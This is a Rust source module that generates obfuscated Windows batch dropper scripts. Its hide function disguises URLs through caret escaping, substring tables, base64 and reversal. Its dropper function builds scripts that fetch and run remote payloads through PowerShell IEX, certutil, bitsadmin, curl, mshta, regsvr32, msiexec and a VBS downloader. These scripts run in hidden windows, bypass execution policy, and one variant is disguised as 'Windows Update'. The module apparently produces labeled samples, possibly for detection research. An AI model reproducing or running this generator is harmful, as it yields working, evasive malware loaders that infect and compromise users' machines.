//! Batch: ciphers of `set`, and the programs of Windows that fetch.

use super::super::{Dice, Truth, base64, put, reversed, wide};
use super::{listed, only, table};

pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = only(dice);
    match dice.below(9) {
        0 => {
            let mut word = String::new();
            for piece in dice.pieces(text) {
                let part = only(dice);
                before.push_str(&format!("set \"{part}={piece}\"\n"));
                word.push_str(&format!("%{part}%"));
            }
            word
        }
        1 => {
            let (letters, places) = table(dice, text);
            before.push_str(&format!("set \"{name}={letters}\"\n"));
            places.iter().map(|at| format!("%{name}:~{at},1%")).collect()
        }
        2 => {
            let mark = dice.pick(&["#", "@"]);
            let littered = dice.littered(text, mark);
            before.push_str(&format!("set \"{name}={littered}\"\n"));
            format!("%{name}:{mark}=%")
        }
        3 => {
            before.push_str(&format!("for /f \"usebackq delims=\" %%i in (`powershell -nop -c \"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}'))\"`) do set \"{name}=%%i\"\n", base64(text.as_bytes())));
            format!("%{name}%")
        }
        4 => {
            let careted: String = text.chars().map(|letter| format!("^{letter}")).collect();
            before.push_str(&format!("s^e^t {name}={careted}\n"));
            format!("%{name}%")
        }
        5 => {
            before.push_str(&format!(">\"%TEMP%\\{name}.b64\" echo {}\ncertutil -f -decode \"%TEMP%\\{name}.b64\" \"%TEMP%\\{name}.txt\" >nul\nset /p {name}=<\"%TEMP%\\{name}.txt\"\n", base64(text.as_bytes())));
            format!("%{name}%")
        }
        6 => {
            // Variables that are not set are nothing.
            let mut word = String::new();
            for letter in text.chars() {
                word.push(letter);
                if dice.chance(40) {
                    word.push_str(&format!("%{}%", only(dice)));
                }
            }
            before.push_str(&format!("set \"{name}={word}\"\n"));
            format!("%{name}%")
        }
        7 => {
            let (letters, places) = table(dice, text);
            let source = only(dice);
            before.push_str(&format!("setlocal EnableDelayedExpansion\nset \"{source}={letters}\"\nset \"{name}=\"\nfor %%a in ({}) do set \"{name}=!{name}!!{source}:~%%a,1!\"\n", listed(places, " ")));
            format!("%{name}%")
        }
        _ => {
            let (source, label) = (only(dice), only(dice));
            before.push_str(&format!("set \"{source}={}\"\nset \"{name}=\"\n:{label}\nset \"{name}=%{source}:~0,1%%{name}%\"\nset \"{source}=%{source}:~1%\"\nif defined {source} goto {label}\n", reversed(text)));
            format!("%{name}%")
        }
    }
}

const SAVE: &str = r#">"%TEMP%\@F@.vbs" echo Set x = CreateObject("MSXML2.XMLHTTP")
>>"%TEMP%\@F@.vbs" echo x.Open "GET", "@W@", False
>>"%TEMP%\@F@.vbs" echo x.Send
>>"%TEMP%\@F@.vbs" echo Set s = CreateObject("ADODB.Stream")
>>"%TEMP%\@F@.vbs" echo s.Type = 1
>>"%TEMP%\@F@.vbs" echo s.Open
>>"%TEMP%\@F@.vbs" echo s.Write x.responseBody
>>"%TEMP%\@F@.vbs" echo s.SaveToFile "%TEMP%\@F@.exe", 2
cscript //nologo "%TEMP%\@F@.vbs"
start "" "%TEMP%\@F@.exe"
"#;

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let file = dice.name();
    let body = match dice.below(12) {
        0 => {
            let url = truth.url(dice, &[".exe", ".bat", ""]);
            let word = hide(dice, &url, &mut before);
            format!(
                "{before}powershell -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command \"(New-Object Net.WebClient).DownloadFile('{word}', '%TEMP%\\{file}.exe')\"\nstart \"\" \"%TEMP%\\{file}.exe\"\n"
            )
        }
        1 => {
            let url = truth.url(dice, &[".exe", ".txt", ""]);
            let word = hide(dice, &url, &mut before);
            format!(
                "{before}certutil -urlcache -split -f \"{word}\" \"%TEMP%\\{file}.exe\" >nul 2>&1\n\"%TEMP%\\{file}.exe\"\n"
            )
        }
        2 => {
            let url = truth.url(dice, &[".exe", ".dll"]);
            let word = hide(dice, &url, &mut before);
            format!(
                "{before}bitsadmin /transfer {file} /download /priority high {word} \"%APPDATA%\\{file}.exe\"\nstart \"\" /b \"%APPDATA%\\{file}.exe\"\n"
            )
        }
        3 => {
            let url = truth.url(dice, &[".exe", ".zip", ""]);
            let word = hide(dice, &url, &mut before);
            format!(
                "{before}curl -s -k -L -o \"%PUBLIC%\\{file}.exe\" {word}\nif exist \"%PUBLIC%\\{file}.exe\" start /min \"\" \"%PUBLIC%\\{file}.exe\"\n"
            )
        }
        4 => {
            let url = truth.url(dice, &[".hta", ""]);
            let word = hide(dice, &url, &mut before);
            format!("{before}start /min mshta {word}\n")
        }
        5 => {
            let url = truth.url(dice, &[".sct", ".txt"]);
            let word = hide(dice, &url, &mut before);
            format!("{before}regsvr32 /s /n /u /i:{word} scrobj.dll\n")
        }
        6 => {
            let url = truth.url(dice, &[".ps1", ""]);
            let script = format!("IEX (New-Object Net.WebClient).DownloadString('{url}')");
            format!("start /b powershell -NoP -W Hidden -Enc {}\n", base64(&wide(&script)))
        }
        7 => {
            let url = truth.url(dice, &[".exe", ""]);
            let word = hide(dice, &url, &mut before);
            format!("{before}{}", put(SAVE, &[("F", &file), ("W", &word)]))
        }
        8 => {
            let url = truth.url(dice, &[".msi", ""]);
            let word = hide(dice, &url, &mut before);
            format!("{before}msiexec /q /i {word}\n")
        }
        9 => {
            let urls: Vec<String> =
                (0..2 + dice.below(3)).map(|_| truth.url(dice, &[".exe", ".zip"])).collect();
            let words: Vec<String> = urls.iter().map(|url| hide(dice, url, &mut before)).collect();
            format!(
                "{before}cd /d \"%TEMP%\"\nfor %%u in ({}) do (\n  curl -s -O %%u\n  start \"\" /b %%~nxu\n)\n",
                words.join(" ")
            )
        }
        10 => {
            // The script lies in a remark of the file itself.
            let url = truth.url(dice, &["", ".txt"]);
            let script = format!(
                "$c = New-Object Net.WebClient\n$d = $c.DownloadString('{url}')\nInvoke-Expression $d\n"
            );
            format!(
                "powershell -NoProfile -WindowStyle Hidden -Command \"foreach ($l in [IO.File]::ReadAllLines('%~f0')) {{ if ($l.StartsWith(':: ')) {{ $b = $l.Substring(3); break }} }}; iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))\"\nexit /b\n:: {}\n",
                base64(script.as_bytes())
            )
        }
        _ => {
            let url = truth.url(dice, &["", ".ps1"]);
            let word = hide(dice, &url, &mut before);
            let verb = dice.pick(&["irm", "iwr -useb", "Invoke-RestMethod"]);
            format!("{before}powershell -ep bypass -w hidden -c \"{verb} '{word}' | iex\"\n")
        }
    };
    let head = match dice.below(4) {
        0 => "@echo off\ncls\ntitle Windows Update\n".to_owned(),
        1 => format!(
            "@echo off\nrem {}\nif not exist \"%SystemRoot%\\System32\\cmd.exe\" exit /b\n",
            dice.name()
        ),
        2 => "@echo off\nchcp 65001 >nul\n".to_owned(),
        _ => "@echo off\n".to_owned(),
    };
    format!("{head}{body}exit\n").replace('\n', "\r\n")
}
